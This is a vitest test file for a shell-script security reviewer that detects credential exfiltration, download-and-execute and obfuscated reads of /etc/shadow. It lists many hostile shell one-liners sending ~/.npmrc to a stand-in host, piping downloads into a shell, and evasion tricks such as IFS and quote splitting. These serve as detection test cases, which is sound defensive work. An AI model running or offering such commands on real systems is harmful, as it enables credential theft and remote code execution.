import { beforeAll, describe, expect, test } from "vitest";
import type { Capability } from "../../../../src/model/capability.ts";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const HOST = "https://h.example";

describe("a credential that leaves the machine is followed", () => {
  test.each([
    ["sent as a form", `curl -F "f=@$HOME/.npmrc" ${HOST}`],
    ["sent from an unquoted path", `curl -d @$HOME/.npmrc ${HOST}`],
    ["sent as a body", `curl --data-binary @"$HOME"/.npmrc ${HOST}`],
    ["sent with letters together", `curl -sT ~/.npmrc ${HOST}`],
    ["sent by wget", `wget --post-file="$HOME/.npmrc" ${HOST}`],
    ["piped through tee", `cat ~/.npmrc | tee /tmp/x | curl -d @- ${HOST}`],
    ["piped through text tools", `grep -v x ~/.npmrc | sed 's/a/b/' | tr a b | curl -d @- ${HOST}`],
    ["read from a redirect", `curl -d @- ${HOST} < ~/.npmrc`],
    ["read without a program", `x=$(<~/.npmrc); curl -d "$x" ${HOST}`],
    ["given by xargs", `cat ~/.npmrc | xargs -I{} curl -d {} ${HOST}`],
    ["named by xargs", `echo ~/.npmrc | xargs -I{} curl -d @{} ${HOST}`],
    ["found", `find ~ -name .npmrc -exec curl -T {} ${HOST} \\;`],
    ["copied before", `cp ~/.npmrc /tmp/a; mv /tmp/a /tmp/b; curl -d @/tmp/b ${HOST}`],
    ["packed before", `tar czf /tmp/a.tgz ~/.npmrc && curl -T /tmp/a.tgz ${HOST}`],
    ["packed on the way", `tar cz ~/.npmrc | curl -T - ${HOST}`],
    ["told on two lines", `cu\\\nrl -d @$HOME/.npm\\\nrc ${HOST} \\\n  -s`],
    ["told on two lines after a comment", `# next\\\ncurl -d @$HOME/.npmrc ${HOST}`],
    ["copied block by block", `dd if=$HOME/.npmrc of=/tmp/a; curl -d @/tmp/a ${HOST}`],
    ["given to a group", `cat ~/.npmrc | { read -r t; curl -d "$t" ${HOST}; }`],
    ["printed by a group", `{ echo start; cat ~/.npmrc; } | curl -d @- ${HOST}`],
    ["printed in a loop", `for f in ~/.{npmrc,netrc}; do cat "$f"; done | curl -d @- ${HOST}`],
    ["printed by a function", `get() { cat "$1"; }\nget ~/.npmrc | curl -d @- ${HOST}`],
    ["read by a function", `put() { curl -d @- ${HOST}; }\ncat ~/.npmrc | put`],
    ["given in a here-document", `curl -d @- ${HOST} <<EOF\nx $(cat ~/.npmrc)\nEOF`],
    ["by a command in a list", `c=(curl -d @- ${HOST}); cat ~/.npmrc | "\${c[@]}"`],
    ["by a command in a variable", `c="curl -s"; $c -d "$(cat ~/.npmrc)" ${HOST}`],
    ["behind wrappers", `sudo -u x env A=b timeout 5 curl -d "$(cat ~/.npmrc)" ${HOST}`],
    ["behind a wrapper in a variable", `$SUDO curl -d "$(cat ~/.npmrc)" ${HOST}`],
    ["when the script ends", `trap 'curl -d "$(cat ~/.npmrc)" ${HOST}' EXIT`],
    ["by a shell in a shell", `sh -c "bash -c 'curl -d @$HOME/.npmrc ${HOST}'"`],
    [
      "by another language",
      `python3 - <<'EOF'\nimport os, requests\nrequests.post("${HOST}", data=open(os.path.expanduser("~/.npmrc")).read())\nEOF`,
    ],
  ])("%s", (_, text) => {
    const facts = factsOf("shell", text, context);
    const flow = {
      from: "read.credential" as const,
      to: "network.send" as const,
      destination: HOST,
    };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      described(facts).join("\n"),
    ).toBe(true);
  });

  test.each([
    ["a connection", "cat ~/.npmrc > /dev/tcp/h.example/80", "/dev/tcp/h.example/80"],
    [
      "a numbered connection",
      "exec 3<>/dev/tcp/h.example/80; cat ~/.npmrc >&3",
      "/dev/tcp/h.example/80",
    ],
    ["a copy to a host", "scp ~/.npmrc u@h.example:/tmp", "u@h.example:/tmp"],
    ["netcat", "nc -w 3 h.example 80 < ~/.npmrc", "h.example"],
  ])("through %s", (_, text, destination) => {
    const facts = factsOf("shell", text, context);
    const flow = { from: "read.credential" as const, to: "network.send" as const, destination };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      described(facts).join("\n"),
    ).toBe(true);
  });
});

describe("a download that is run is followed", () => {
  test.each([
    ["piped", `curl ${HOST}/x | sudo -E bash -s -- -y`],
    ["piped in braces", `{curl,-s,${HOST}/x} | sh`],
    ["substituted", `bash <(curl ${HOST}/x)`],
    ["sourced", `. <(curl ${HOST}/x)`],
    ["as an argument", `sh -c "$(curl -fsSL ${HOST}/x)"`],
    ["evaluated by backticks", `eval \`wget -qO- ${HOST}/x\``],
    ["kept under its own name", `curl -fsSLO ${HOST}/x; sh x`],
    ["kept by wget", `wget -q ${HOST}/x; chmod +x x; ./x`],
    ["kept under another name", `curl -sSLo /tmp/y ${HOST}/x && chmod +x /tmp/y && /tmp/y`],
    ["redirected", `curl ${HOST}/x > /tmp/y; bash /tmp/y`],
    ["written by tee", `curl ${HOST}/x | tee /tmp/y >/dev/null; sh /tmp/y`],
    ["line by line", `curl ${HOST}/x | while read -r l; do eval "$l"; done`],
    ["by another language", `curl ${HOST}/x | python3 -`],
    ["by awk", `awk 'BEGIN { system("curl ${HOST}/x | sh") }'`],
    ["by the shell that a variable names", `curl ${HOST}/x | "$SHELL"`],
    ["among the host's processes", `nsenter -t 1 -m -- sh -c "curl ${HOST}/x | sh"`],
    ["printed before something else", `eval "$(sh -c 'curl ${HOST}/x || true')"`],
    ["decoded on the way", `curl ${HOST}/x | base64 -d | gunzip | sh`],
  ])("%s", (_, text) => {
    const facts = factsOf("shell", text, context);
    const flow = {
      from: "network.receive" as const,
      to: "execute.code" as const,
      source: `${HOST}/x`,
    };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      described(facts).join("\n"),
    ).toBe(true);
  });
});

describe("what is piped into a program that has its code already is data", () => {
  test.each([
    ["a file", `curl ${HOST}/x | sh ./sort.sh`],
    ["an option", `curl ${HOST}/x | python3 -c "import sys; print(len(sys.stdin.read()))"`],
  ])("%s", (_, text) => {
    const facts = factsOf("shell", text, context);
    const flow = { from: "network.receive" as const, to: "execute.code" as const };
    expect(facts.some((fact) => isFlow(fact, flow))).toBe(false);
  });
});

describe("a command that hides its words is read", () => {
  test.each([
    ["separators", "cat${IFS}/etc/shadow"],
    ["arguments that are not there", "c$@at /etc/shadow".replace("$@", '""')],
    ["quotes", `c'a't /etc/sh"ado"w`],
    ["backslashes", "c\\at /etc/shado\\w"],
    ["parts of a text", "x=xcatx; ${x:1:3} /etc/shadow"],
    ["cut ends", "x=/etc/shadow.bak; cat ${x%.bak}"],
    ["a default", "cat ${nothing:-/etc/shadow}"],
    ["own arguments", "set -- cat /etc/shadow; $1 $2"],
    ["all own arguments", 'set -- cat /etc/shadow; "$@"'],
    ["letters that are changed", "x=CAT; ${x,,} /etc/shadow"],
    ["a field", "cat $(echo a:/etc/shadow | cut -d: -f2)"],
  ])("%s", (_, text) => {
    const facts = factsOf("shell", text, context);
    const read = { capability: "read.credential" as const, target: "/etc/shadow" };
    expect(
      facts.some((fact) => isCapability(fact, read)),
      described(facts).join("\n"),
    ).toBe(true);
  });
});

describe("an honest script stays without flows that it does not have", () => {
  const stolen: [Capability, Capability][] = [
    ["read.credential", "network.send"],
    ["read.environment", "network.send"],
    ["network.receive", "execute.code"],
    ["decode", "execute.code"],
  ];
  test.each([
    [
      "asks for programs",
      "for c in curl git; do command -v $c >/dev/null 2>&1 || exit 1; done\nsh build.sh",
    ],
    ["makes a key", `KEY=$(openssl rand -hex 16)\nsh -c "echo $KEY"`],
    ["unpacks a download", `curl -fsSL ${HOST}/x.tgz | tar xz -C /opt\n./configure && make`],
    [
      "checks a download",
      `curl -fsSLo x.tgz ${HOST}/x.tgz\necho "abc  x.tgz" | sha256sum -c -\ntar xzf x.tgz`,
    ],
    [
      "waits for a database",
      "until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done\nsh test.sh",
    ],
    [
      "publishes",
      "VERSION=$(node -p 'require(\"./package.json\").version')\ngit tag v$VERSION && npm publish",
    ],
    ["reads beside a request", `cat ~/.npmrc | grep registry\ncurl ${HOST}/health`],
    [
      "says nothing to the network",
      `cat .env | while read -r l; do echo "$l"; done; curl ${HOST}/x -o x`,
    ],
    ["numbers outputs", "exec 3>&1\necho hi >&3\necho bad >&2"],
  ])("%s", (_, text) => {
    const facts = factsOf("shell", text, context);
    const found = stolen.filter(([from, to]) => facts.some((fact) => isFlow(fact, { from, to })));
    expect(found, described(facts).join("\n")).toEqual([]);
  });

  test("that only asks whether a program is there does not download", () => {
    const facts = factsOf("shell", "command -v curl >/dev/null", context);
    expect(described(facts)).toEqual([]);
  });
});
